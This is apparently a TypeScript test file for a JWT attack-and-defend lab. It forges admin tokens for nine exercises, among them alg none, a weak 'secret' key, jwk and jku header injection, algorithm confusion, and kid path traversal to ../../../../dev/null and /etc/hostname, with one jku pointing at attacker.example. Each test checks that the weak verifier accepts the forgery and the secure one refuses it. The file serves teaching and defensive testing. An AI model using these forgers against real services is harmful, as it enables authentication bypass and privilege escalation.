import { createHmac, createPublicKey, generateKeyPairSync, type JsonWebKey } from 'node:crypto';
import type { Trace } from '@authlab/shared';
import jwt from 'jsonwebtoken';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { CLOCK, type Clock } from '../src/clock/clock.js';
import { loadConfig } from '../src/config/load-config.js';
import { LoopbackOnlyGuard } from '../src/lab/loopback-only.guard.js';
import { startTestApp, type TestApp } from './support/test-app.js';

const SESSION = 'lab-session-000000001';
const b64 = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
const parts = (token: string) =>
  token
    .split('.')
    .slice(0, 2)
    .map(
      (part) => JSON.parse(Buffer.from(part, 'base64url').toString()) as Record<string, unknown>,
    );

function hs256(header: object, payload: object, key: string | Buffer): string {
  const signingInput = `${b64(header)}.${b64(payload)}`;
  return `${signingInput}.${createHmac('sha256', key).update(signingInput).digest('base64url')}`;
}

describe('the attack-and-defend lab', () => {
  let testApp: TestApp;
  beforeAll(async () => {
    testApp = await startTestApp({ lab: true });
  });
  afterAll(() => testApp?.close());

  const legitToken = async (exercise: string) =>
    ((await testApp.http.post(`/api/lab/${exercise}/token`).expect(200)).body as { token: string })
      .token;

  async function sendToBoth(exercise: string, token: string) {
    const send = (variant: string) =>
      testApp.http
        .get(`/api/lab/${exercise}/${variant}`)
        .set('Authorization', `Bearer ${token}`)
        .set('X-Playground-Session', SESSION);
    return { weak: await send('weak'), secure: await send('secure') };
  }

  /** The learner's own key pair: any key will do when the verifier lets the token pick it. */
  const learnerKeys = generateKeyPairSync('ec', { namedCurve: 'prime256v1' });

  /** The JWK from the issuer's JWKS, turned into the PEM text a jwk-to-pem conversion gives. */
  const pemFromJwks = async () => {
    const { keys } = (await testApp.http.get('/api/lab/jwks-issuer/jwks.json').expect(200))
      .body as { keys: JsonWebKey[] };
    return createPublicKey({ key: keys[0]!, format: 'jwk' })
      .export({ format: 'pem', type: 'spki' })
      .toString();
  };

  const clock = () => testApp.app.get<typeof CLOCK, Clock>(CLOCK);

  const forgers: Record<string, (legit: string) => Promise<string>> = {
    'unverified-signature': async (legit) => {
      const [header, payload] = parts(legit);
      // The issuer's signature kept as it was: it no longer matches, and nobody checks.
      return `${b64(header)}.${b64({ ...payload, role: 'admin' })}.${legit.split('.')[2]}`;
    },
    'alg-none': async (legit) => {
      const [header, payload] = parts(legit);
      return `${b64({ ...header, alg: 'none' })}.${b64({ ...payload, role: 'admin' })}.`;
    },
    'ignored-expiry': async (legit) => {
      // Replaying the legitimate token after it has expired on the API's clock is the attack.
      clock().advance(360);
      return legit;
    },
    'weak-secret': async (legit) => {
      const [header, payload] = parts(legit);
      return hs256(header!, { ...payload, role: 'admin' }, 'secret'); // "secret" is the first word of any wordlist
    },
    'jwk-injection': async (legit) => {
      const [header, payload] = parts(legit);
      const jwk = learnerKeys.publicKey.export({ format: 'jwk' });
      return jwt.sign({ ...payload, role: 'admin' }, learnerKeys.privateKey, {
        algorithm: 'ES256',
        header: { ...header, alg: 'ES256', jwk } as jwt.JwtHeader,
      });
    },
    'jku-injection': async (legit) => {
      const [, payload] = parts(legit);
      const { pem, kid } = (await testApp.http.get('/api/lab/attacker/private-key').expect(200))
        .body as { pem: string; kid: string };
      return jwt.sign({ ...payload, role: 'admin' }, pem, {
        algorithm: 'ES256',
        header: {
          alg: 'ES256',
          typ: 'at+jwt',
          kid,
          jku: 'http://127.0.0.1/api/lab/attacker/jwks.json',
        },
      });
    },
    'algorithm-confusion': async (legit) => {
      const [header, payload] = parts(legit);
      const { pem } = (await testApp.http.get('/api/lab/issuer/public-key').expect(200)).body as {
        pem: string;
      };
      return hs256({ ...header, alg: 'HS256' }, { ...payload, role: 'admin' }, pem);
    },
    'algorithm-confusion-jwk': async (legit) => {
      const [header, payload] = parts(legit);
      return hs256({ ...header, alg: 'HS256' }, { ...payload, role: 'admin' }, await pemFromJwks());
    },
    'kid-path-traversal': async (legit) => {
      const [header, payload] = parts(legit);
      return hs256(
        { ...header, kid: '../../../../dev/null' },
        { ...payload, role: 'admin' },
        Buffer.alloc(0),
      );
    },
  };

  afterEach(() => clock().reset());

  it('lists its nine exercises, each fix citing the rule it follows', async () => {
    const list = (await testApp.http.get('/api/lab').expect(200)).body as Array<{
      id: string;
      fix: string;
    }>;
    expect(list.map((exercise) => exercise.id).sort()).toEqual(Object.keys(forgers).sort());
    expect(list).toHaveLength(9);
    for (const exercise of list) expect(exercise.fix).toMatch(/\(RFC (8725|7519) §[\d.]+\)/);
  });

  it.each(Object.keys(forgers))(
    '%s: the same forged token is accepted by the weak verifier and refused by the secure one',
    async (exercise) => {
      const forged = await forgers[exercise]!(await legitToken(exercise));
      const { weak, secure } = await sendToBoth(exercise, forged);

      expect(weak.status).toBe(200);
      expect(weak.body).toMatchObject({ exercise, variant: 'weak', verdict: 'accepted' });
      if (exercise !== 'ignored-expiry') expect(weak.body.claims.role).toBe('admin');
      expect(secure.status).toBe(401);
      expect(secure.body.message).toMatch(/^secure verifier: Refused: /);

      // Both traces are there to compare side by side.
      for (const response of [weak, secure]) {
        const trace = (
          await testApp.http
            .get(`/api/traces/${response.headers['x-trace-id']}`)
            .set('X-Playground-Session', SESSION)
            .expect(200)
        ).body as Trace;
        expect(trace.path).toBe(`/api/lab/${exercise}/${response === weak ? 'weak' : 'secure'}`);
        expect(trace.events.some((event) => event.kind === 'handler')).toBe(true);
      }
    },
  );

  it.each(Object.keys(forgers).filter((exercise) => exercise !== 'weak-secret'))(
    '%s: both verifiers accept the legitimate token',
    async (exercise) => {
      const { weak, secure } = await sendToBoth(exercise, await legitToken(exercise));
      expect([weak.status, secure.status]).toEqual([200, 200]);
    },
  );

  it('unverified-signature: the weak verifier only decodes; garbage is still refused', async () => {
    const legit = await legitToken('unverified-signature');
    const [header, payload] = parts(legit);
    const unsigned = `${b64(header)}.${b64({ ...payload, role: 'admin' })}.not-a-signature`;
    expect((await sendToBoth('unverified-signature', unsigned)).weak.status).toBe(200);
    expect((await sendToBoth('unverified-signature', 'garbage.garbage.garbage')).weak.status).toBe(
      401,
    );
  });

  it('jwk-injection: only the embedded key is used; the secure verifier refuses any jwk header', async () => {
    const legit = await legitToken('jwk-injection');
    const [header, payload] = parts(legit);
    const other = generateKeyPairSync('ec', { namedCurve: 'prime256v1' });
    // Signed with one key, another key embedded: the signature does not match the jwk.
    const mismatched = jwt.sign({ ...payload, role: 'admin' }, other.privateKey, {
      algorithm: 'ES256',
      header: {
        ...header,
        alg: 'ES256',
        jwk: learnerKeys.publicKey.export({ format: 'jwk' }),
      } as jwt.JwtHeader,
    });
    expect((await sendToBoth('jwk-injection', mismatched)).weak.status).toBe(401);
    // An RSA key pair the learner made works as well as an EC one.
    const rsa = generateKeyPairSync('rsa', { modulusLength: 2048 });
    const withRsa = jwt.sign({ ...payload, role: 'admin' }, rsa.privateKey, {
      algorithm: 'RS256',
      header: {
        ...header,
        alg: 'RS256',
        jwk: rsa.publicKey.export({ format: 'jwk' }),
      } as jwt.JwtHeader,
    });
    const { weak, secure } = await sendToBoth('jwk-injection', withRsa);
    expect([weak.status, secure.status]).toEqual([200, 401]);
    expect(secure.body.message).toContain('"jwk"');
  });

  it('jku-injection: a jku anywhere but the lab itself is refused, and nothing is fetched', async () => {
    const legit = await legitToken('jku-injection');
    const [, payload] = parts(legit);
    const { pem, kid } = (await testApp.http.get('/api/lab/attacker/private-key').expect(200))
      .body as { pem: string; kid: string };
    const elsewhere = jwt.sign({ ...payload, role: 'admin' }, pem, {
      algorithm: 'ES256',
      header: { alg: 'ES256', typ: 'at+jwt', kid, jku: 'https://attacker.example/jwks.json' },
    });
    const { weak } = await sendToBoth('jku-injection', elsewhere);
    expect(weak.status).toBe(401);
    expect(weak.body.message).toContain('no outbound requests');
  });

  it('kid-path-traversal: a real lookup in the key folder; only a kid that climbs out with ../ finds an empty file', async () => {
    const legit = await legitToken('kid-path-traversal');
    const [header, payload] = parts(legit);
    const withKid = (kid: string, key: Buffer | string) =>
      hs256({ ...header, kid }, { ...payload, role: 'admin' }, key);
    // An unknown plain kid finds no file: refused, even with an empty key.
    const unknown = await sendToBoth('kid-path-traversal', withKid('no-such-key', Buffer.alloc(0)));
    expect(unknown.weak.status).toBe(401);
    expect(unknown.weak.body.message).toContain('no key file at /keys/no-such-key');
    // The lookup never leaves the lab's sandbox: the machine's /etc/hostname is not there.
    const outside = await sendToBoth(
      'kid-path-traversal',
      withKid('../../../../etc/hostname', Buffer.alloc(0)),
    );
    expect(outside.weak.body.message).toContain('no key file at /etc/hostname');
    // The legitimate kid with a guessed key: the real key file is 32 random bytes.
    expect((await sendToBoth('kid-path-traversal', withKid('lab-hs256-1', ''))).weak.status).toBe(
      401,
    );
    const traversal = await sendToBoth(
      'kid-path-traversal',
      withKid('../../../../dev/null', Buffer.alloc(0)),
    );
    expect([traversal.weak.status, traversal.secure.status]).toEqual([200, 401]);
    expect(traversal.weak.body.reason).toContain('/dev/null (0 bytes)');
  });

  it('algorithm-confusion-jwk: the PEM of the other exercise is not this key', async () => {
    const legit = await legitToken('algorithm-confusion-jwk');
    const [header, payload] = parts(legit);
    const { pem } = (await testApp.http.get('/api/lab/issuer/public-key').expect(200)).body as {
      pem: string;
    };
    const wrongKey = hs256({ ...header, alg: 'HS256' }, { ...payload, role: 'admin' }, pem);
    expect((await sendToBoth('algorithm-confusion-jwk', wrongKey)).weak.status).toBe(401);
    // The JWK's PEM without its final newline is other bytes: byte-exact, as HMAC is.
    const trimmed = hs256(
      { ...header, alg: 'HS256' },
      { ...payload, role: 'admin' },
      (await pemFromJwks()).trimEnd(),
    );
    expect((await sendToBoth('algorithm-confusion-jwk', trimmed)).weak.status).toBe(401);
  });

  it('ignored-expiry: on the real clock both accept; once the API clock passes exp, only the weak one does, and the trace says which check never ran', async () => {
    const legit = await legitToken('ignored-expiry');
    expect(Object.values(await sendToBoth('ignored-expiry', legit)).map((r) => r.status)).toEqual([
      200, 200,
    ]);
    clock().advance(360);
    const { weak, secure } = await sendToBoth('ignored-expiry', legit);
    expect([weak.status, secure.status]).toEqual([200, 401]);
    expect(secure.body.message).toMatch(/expired 1 min 0 s ago, on the API's clock/);
    const events = async (response: typeof weak) =>
      (
        (
          await testApp.http
            .get(`/api/traces/${response.headers['x-trace-id']}`)
            .set('X-Playground-Session', SESSION)
            .expect(200)
        ).body as Trace
      ).events.find((event) => event.kind === 'handler')!;
    expect((await events(weak)).checks).toContainEqual(
      expect.objectContaining({ name: 'exp', ok: null }),
    );
    expect((await events(weak)).detail).toMatchObject({ apiClock: 'simulated' });
    expect((await events(secure)).checks).toContainEqual(
      expect.objectContaining({ name: 'exp', ok: false }),
    );
  });

  it('refuses unknown exercises and variants', async () => {
    await testApp.http.get('/api/lab/sql-injection/weak').expect(400);
    await testApp.http.get('/api/lab/alg-none/lenient').expect(400);
  });
});

describe('when the lab is off', () => {
  let testApp: TestApp;
  beforeAll(async () => {
    testApp = await startTestApp();
  });
  afterAll(() => testApp?.close());

  it('answers 404 on every lab route', async () => {
    for (const path of [
      '/api/lab',
      '/api/lab/alg-none/weak',
      '/api/lab/attacker/private-key',
      '/api/lab/jwks-issuer/jwks.json',
    ]) {
      await testApp.http.get(path).expect(404);
    }
    await testApp.http.post('/api/lab/alg-none/token').expect(404);
  });
});

describe('where the lab may run', () => {
  it('is refused in production', () => {
    expect(() =>
      loadConfig(
        { NODE_ENV: 'production', JWT_SECRET: Buffer.alloc(32, 7).toString('base64'), LAB: 'true' },
        [],
      ),
    ).toThrow(/refused in production/);
  });

  it('is refused unless the API listens on loopback', () => {
    expect(() => loadConfig({ HOST: '0.0.0.0' }, ['--lab'])).toThrow(/loopback only/);
    expect(loadConfig({ HOST: '::1' }, ['--lab']).lab).toBe(true);
  });

  it('answers only requests from this machine', () => {
    const guard = new LoopbackOnlyGuard();
    const from = (remoteAddress: string) =>
      ({ switchToHttp: () => ({ getRequest: () => ({ socket: { remoteAddress } }) }) }) as never;
    expect(guard.canActivate(from('127.0.0.1'))).toBe(true);
    expect(guard.canActivate(from('::ffff:127.0.0.1'))).toBe(true);
    expect(() => guard.canActivate(from('192.0.2.10'))).toThrow('Not found.');
  });
});
